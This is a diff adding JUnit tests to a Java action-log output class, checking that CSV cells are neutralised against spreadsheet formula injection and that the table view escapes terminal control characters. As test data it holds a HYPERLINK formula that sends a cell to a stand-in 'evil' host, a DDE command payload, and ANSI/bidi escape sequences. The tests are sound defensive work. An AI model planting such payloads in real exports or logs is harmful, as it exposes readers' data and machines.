@@ -1,5 +1,6 @@
 package actionlog.support;
 
+import static actionlog.core.ActionEvent.*;
 import static org.junit.jupiter.api.Assertions.*;
 
 import actionlog.core.ActionEvent;
@@ -10,7 +11,10 @@ import java.time.ZoneOffset;
 import java.util.List;
 import org.junit.jupiter.api.Test;
 
-/** How the table names the user: verified sources plainly, unverified ones and stitched events visibly. */
+/**
+ * How the table names the user (verified sources plainly, unverified ones and stitched events visibly), and output
+ * that could attack its reader: spreadsheet formulas in CSV, terminal escape sequences in the table.
+ */
 class OutputTest {
     static ActionEvent event(String id, String user, String source, String session) {
         return new ActionEvent().put(ActionEvent.F_ID, id).put(ActionEvent.F_TIME, "2026-11-22T14:05:0" + id + "Z")
@@ -38,5 +42,38 @@ class OutputTest {
         List<String> headings = out.toString(StandardCharsets.UTF_8).lines().filter(l -> l.startsWith("──")).toList();
         assertEquals(List.of("── session s_a · user alice (stitched: anonymous event of this session, anon:1) ──",
                 "── session s_a · user alice (origin) ──"), headings);
+    }
+
+    static ActionEvent event(String userAgent, String path) {
+        return new ActionEvent().put(F_ID, "e1").put(F_TIME, "2026-11-22T14:05:00Z").put(F_USER, "alice")
+                .put(F_METHOD, "GET").put(F_PATH, path).put(F_USER_AGENT, userAgent).put(F_STATUS, 200).put(F_LATENCY, -1);
+    }
+
+    static String print(List<ActionEvent> events, Output.Format format) {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        Output.print(events, format, ZoneOffset.UTC, new PrintStream(bytes, true, StandardCharsets.UTF_8), false);
+        return bytes.toString(StandardCharsets.UTF_8);
+    }
+
+    @Test
+    void csvCellsThatASpreadsheetWouldRunAsFormulasAreNeutralised() {
+        assertEquals("\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A2,\"\"Click\"\")\"", Output.csv("=HYPERLINK(\"http://evil/?x=\"&A2,\"Click\")"));
+        assertEquals("'+1", Output.csv("+1"));
+        assertEquals("'-2+3", Output.csv("-2+3"));
+        assertEquals("'@SUM(A1)", Output.csv("@SUM(A1)"));
+        assertEquals("'\tx", Output.csv("\tx"));
+        assertEquals("\"'\rx\"", Output.csv("\rx"));
+        assertEquals("-1", Output.csv(-1L), "numbers stay numbers");
+        assertEquals("/a=b", Output.csv("/a=b"));
+        String csv = print(List.of(event("=cmd|' /C calc'!A0", "/")), Output.Format.csv);
+        assertTrue(csv.contains(",'=cmd|' /C calc'!A0,"), csv);
+    }
+
+    @Test
+    void tableEscapesControlCharactersFromCapturedData() {
+        String table = print(List.of(event("\u001b[2J\u001b[31mFAKE", "/x\u001b]0;title\u0007\u202e")), Output.Format.table);
+        assertFalse(table.chars().anyMatch(c -> c == 0x1b || c == 0x07 || c == 0x202e), table);
+        assertTrue(table.contains("/x\\x1b]0;title\\x07\\u202e"), table);
+        assertTrue(table.contains("\\x1b[2J\\x1b[31mFAKE"), table);
     }
 }
